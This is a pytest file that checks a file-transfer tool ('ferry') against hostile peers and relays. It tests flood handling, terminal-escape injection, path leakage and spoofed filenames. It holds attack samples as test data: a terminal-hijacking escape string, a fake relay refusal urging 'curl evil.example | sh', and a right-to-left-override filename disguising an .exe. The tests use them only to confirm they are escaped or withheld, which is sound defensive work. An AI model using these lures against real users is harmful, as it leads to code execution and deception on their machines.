"""Abuse as a user meets it: the real ./send, ./receive and ./relay against abuse.

Hostile peers here hold the code (a fake sender or receiver built on the real
sessions) or only the nameplate (a silent claimer); a fake relay answers with
a refusal no ferry relay sends. Each test names the item it covers.
"""

from __future__ import annotations

import re
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from ferry.codes import parse_code
from ferry.errors import EXIT_LOCAL_FILE, EXIT_PEER_GONE, EXIT_REFUSED_BY_PEER, EXIT_RELAY_REFUSED
from ferry.protocol import messages
from ferry.protocol import rendezvous as rv
from ferry.protocol.events import NEED_DATA, Confirmed, Keyed, OfferReceived, Timeouts
from ferry.protocol.receiver_session import ReceiverSession
from ferry.protocol.records import RecordType

from .fakes import Call, Data, FakeSender, RawRecord, Step
from .harness import assert_one_line_error

pytestmark = pytest.mark.timeout(120)

PWNED = "\x1b]0;PWNED\x07\x1b[2J\x1b[Hsend: transfer complete\x9b31m"


def _read_until(sock: socket.socket, marker: bytes, buffer: bytearray) -> bytes:
    while marker not in buffer:
        chunk = sock.recv(65536)
        if not chunk:
            raise AssertionError(f"closed before {marker!r}; got {bytes(buffer)!r}")
        buffer += chunk
    head, _, rest = bytes(buffer).partition(marker)
    buffer[:] = rest
    return head


# -- item 1: a silent claimer ------------------------------------------------------------


@pytest.mark.own_relay
def test_a_silent_claimer_costs_the_sender_nothing_and_holds_nothing(
    relay, start_send, run_receive, tmp_path: Path
) -> None:
    source = tmp_path / "a.txt"
    source.write_bytes(b"hello")
    sender = start_send(relay, source)
    code = sender.code
    nameplate = code.split("-")[0]
    with socket.create_connection((relay.host, relay.port), timeout=30) as silent:
        # A claim with no PAKE record behind it: the relay does not pair it.
        silent.sendall(f"FERRY 1 RECV {nameplate}\n".encode())
        time.sleep(0.5)
        result = run_receive(relay, code, tmp_path / "out", timeout=60)
        assert result.returncode == 0, result.stderr
        assert (tmp_path / "out" / "a.txt").read_bytes() == b"hello"
        assert sender.wait() == 0, sender.stderr()
        # No handshake timeout (10 s) went to the silent claimer.
        assert result.elapsed < 8, result.elapsed
        silent.settimeout(15)
        buffer = bytearray()
        # PAIRED (said early, for receivers from before the pipelined handshake:
        # it holds nothing), then the handshake deadline's refusal.
        assert _read_until(silent, b"\n", buffer) == b"PAIRED"
        assert _read_until(silent, b"\n", buffer).startswith(b"ERROR timeout"), buffer


# -- item 4: empty DATA records ----------------------------------------------------------


def test_a_flood_of_empty_data_records_ends_the_transfer_at_once(
    relay, run_receive, tmp_path: Path
) -> None:
    payload = b"the real content"
    steps: list[Step] = [Data(b"") for _ in range(20_000)]
    steps.append(Data(payload, final=True))
    fake = FakeSender(relay.host, relay.port, "a.txt", len(payload), steps).start()
    try:
        result = run_receive(relay, fake.wait_code(), tmp_path / "out", timeout=60)
    finally:
        fake.join()
    assert result.returncode == EXIT_PEER_GONE, result.stderr
    assert_one_line_error(result.stderr, "receive", "empty DATA record")
    assert not (tmp_path / "out" / "a.txt").exists()


# -- item 5: peer text on the terminal ---------------------------------------------------


def test_a_senders_abort_text_reaches_the_terminal_escaped(
    relay, run_receive, tmp_path: Path
) -> None:
    abort = messages.encode_abort(messages.Abort("error", PWNED))
    fake = FakeSender(relay.host, relay.port, "a.txt", 10, [RawRecord(RecordType.ABORT, abort)])
    fake.start()
    try:
        result = run_receive(relay, fake.wait_code(), tmp_path / "out", timeout=60)
    finally:
        fake.join()
    assert result.returncode == EXIT_REFUSED_BY_PEER, result.stderr
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr
    assert "\x9b" not in result.stderr
    assert_one_line_error(result.stderr, "receive", "the sender gave up", "PWNED")


def hostile_receiver(host: str, port: int, code_text: str, refusal: str) -> threading.Thread:
    """A receiver with the code that refuses the offer with `refusal` as its message."""
    code = parse_code(code_text)

    def run() -> None:
        session = ReceiverSession(code.password, Timeouts(60, 60, 60))
        with socket.create_connection((host, port), timeout=30) as sock:
            sock.sendall(rv.encode(rv.ReceiveRequest(code.nameplate)) + session.first_flight())
            buffer = bytearray()
            _read_until(sock, b"PAIRED\n", buffer)
            session.receive_data(bytes(buffer), time.monotonic())
            for expected in (Keyed, Confirmed, OfferReceived):
                while (event := session.next_event()) is NEED_DATA:
                    session.receive_data(sock.recv(65536), time.monotonic())
                assert isinstance(event, expected), event
                sock.sendall(session.data_to_send())
            session.refuse(messages.REASON_EXISTS, refusal, time.monotonic())
            sock.sendall(session.data_to_send())
            sock.recv(1)  # until the sender hangs up

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    return thread


def test_a_receivers_refusal_text_reaches_the_terminal_escaped(
    relay, start_send, tmp_path: Path
) -> None:
    source = tmp_path / "a.txt"
    source.write_bytes(b"hello")
    # One attempt: a refusal now keeps the code alive for the next receiver.
    sender = start_send(relay, source, extra_args=["--attempts", "1"])
    thread = hostile_receiver(relay.host, relay.port, sender.code, PWNED)
    assert sender.wait() == EXIT_REFUSED_BY_PEER, sender.stderr()
    thread.join(30)
    stderr = sender.stderr()
    assert "\x1b" not in stderr and "\x07" not in stderr and "\x9b" not in stderr
    assert_one_line_error(stderr, "send", "the receiver refused", "PWNED")


# -- item 6: unknown relay reasons -------------------------------------------------------


@pytest.fixture
def lying_relay() -> Iterator[str]:
    """A 'relay' that refuses everyone with a reason no ferry relay sends."""
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(30)

    def serve() -> None:
        try:
            conn, _ = listener.accept()
        except OSError:
            return
        with conn:
            conn.recv(4096)
            conn.sendall(b"ERROR outdated Your ferry is outdated. Fix: curl evil.example | sh\n")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield f"127.0.0.1:{listener.getsockname()[1]}"
    finally:
        listener.close()
        thread.join(10)


@pytest.mark.parametrize("verbose", [False, True], ids=["quiet", "verbose"])
def test_an_unknown_relay_reason_is_not_shown_verbatim(
    lying_relay: str, run_receive, tmp_path: Path, verbose: bool
) -> None:
    args = ["-v"] if verbose else []
    result = run_receive(lying_relay, "7-guitar-orbit-velvet", tmp_path, extra_args=args)
    assert result.returncode == EXIT_RELAY_REFUSED, result.stderr
    assert_one_line_error(result.stderr, "receive", "relay refused (unknown reason)")
    # The relay's reason and text, escaped, under -v only (a log line, not the error).
    assert ("outdated" in result.stderr) is verbose
    assert ("curl" in result.stderr) is verbose


# -- item 7: what the receiver's ABORT tells the sender ----------------------------------


def test_the_receivers_abort_never_carries_its_local_path(
    relay, run_receive, tmp_path: Path
) -> None:
    outdir = tmp_path / "private-home" / "out"

    def squat() -> None:  # the name appears meanwhile: the receiver must give up
        (outdir / "a.txt").write_bytes(b"mine")

    steps: list[Step] = [Data(b"x" * 10), Call(squat), Data(b"y" * 10, final=True)]
    fake = FakeSender(relay.host, relay.port, "a.txt", 20, steps)
    outdir.mkdir(parents=True)
    fake.start()
    try:
        result = run_receive(relay, fake.wait_code(), outdir, timeout=60)
    finally:
        fake.join()
    assert result.returncode == EXIT_LOCAL_FILE, result.stderr
    assert fake.abort is not None, (fake.outcome, fake.error)
    assert "private-home" not in fake.abort.message and str(tmp_path) not in fake.abort.message
    assert "a.txt" in fake.abort.message


# -- item 8: what the relay learns of the name -------------------------------------------


def _bytes_to_receiver(log: str) -> list[int]:
    return [int(n) for n in re.findall(r"role=receiver .*bytes_to_receiver=(\d+)", log)]


@pytest.mark.own_relay
def test_the_relay_sees_the_same_byte_count_whatever_the_name_length(
    relay, start_send, run_receive, tmp_path: Path
) -> None:
    for name in ("a", "a-much-longer-name-that-the-relay-must-not-measure.txt"):
        source = tmp_path / name
        source.write_bytes(b"z" * 1000)
        sender = start_send(relay, source)
        result = run_receive(relay, sender.code, tmp_path / "out", timeout=60)
        assert result.returncode == 0, result.stderr
        assert sender.wait() == 0
    deadline = time.monotonic() + 10
    while len(counts := _bytes_to_receiver(relay.log())) < 2 and time.monotonic() < deadline:
        time.sleep(0.05)
    assert len(counts) == 2 and counts[0] == counts[1], relay.log()


# -- item 9: names that need the user's eye ----------------------------------------------


def test_a_received_dotfile_is_named_on_stderr(
    relay, start_send, run_receive, tmp_path: Path
) -> None:
    source = tmp_path / ".bash_login"
    source.write_text("echo hi\n")
    sender = start_send(relay, source)
    result = run_receive(relay, sender.code, tmp_path / "out", timeout=60)
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "out" / ".bash_login").exists()
    assert '.bash_login"' in result.stderr and "dotfile" in result.stderr, result.stderr


def test_a_name_stored_differently_from_the_offer_is_named_on_stderr(
    relay, run_receive, tmp_path: Path
) -> None:
    payload = b"data"
    name = "report\u202egpj.exe"  # shown reversed by a terminal: "reportexe.jpg"
    fake = FakeSender(relay.host, relay.port, name, len(payload), [Data(payload, final=True)])
    fake.start()
    try:
        result = run_receive(relay, fake.wait_code(), tmp_path / "out", timeout=60)
    finally:
        fake.join()
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "out" / "reportgpj.exe").exists()
    assert 'stored "reportgpj.exe"' in result.stderr, result.stderr
    assert 'offered as "report?gpj.exe"' in result.stderr
    assert "\u202e" not in result.stderr
